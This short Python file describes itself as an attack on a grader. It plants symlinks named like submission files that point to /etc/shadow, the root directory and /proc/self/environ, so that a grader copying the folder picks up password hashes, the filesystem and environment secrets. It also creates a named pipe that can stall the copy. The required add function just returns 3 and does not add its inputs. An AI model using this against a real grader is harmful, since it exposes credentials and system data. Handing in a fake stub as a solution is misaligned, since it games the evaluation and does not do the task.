# Attack: put links to the grader's files where a copy of the folder would follow them.
import os

for name, target in (("gradebook.db", "/etc/shadow"), ("source", "/"), ("adding.ipynb", "/proc/self/environ")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
os.mkfifo("pipe")


def add(a, b):
    return 3
